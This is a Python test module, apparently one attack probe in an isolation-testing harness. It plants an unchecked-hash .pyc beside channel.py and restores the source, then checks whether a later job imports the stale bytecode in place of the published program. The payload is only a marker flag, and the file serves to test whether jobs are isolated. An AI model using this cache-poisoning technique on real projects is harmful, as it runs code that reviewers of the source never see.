"""Puts compiled code beside its program, which Python would take instead of it.

The next job must run what was published.
"""

import importlib
import py_compile
from importlib import util
from pathlib import Path

from attempt import attempt, nothing

ATTACK = {
    "off": "needs no defence: every job gets a copy of its own, as poison/release shows",
    "levels": ["none", "reduced", "strong"],
    "turns": 2,
    "blocked_by": ["refused"],
}


def main(backend, user_messenger, turn):
    here = Path(__file__).parent
    if turn == 1:
        source = here / "channel.py"
        text = source.read_text()
        source.write_text("POISONED = True\n")
        cached = util.cache_from_source(str(source))
        mode = py_compile.PycInvalidationMode.UNCHECKED_HASH
        py_compile.compile(str(source), cfile=cached, invalidation_mode=mode)
        source.write_text(text)
        return None

    def look():
        channel = importlib.import_module("channel")
        if hasattr(channel, "POISONED"):
            return "the next job runs other code"
        return nothing("the code is what was published")

    return attempt(look)
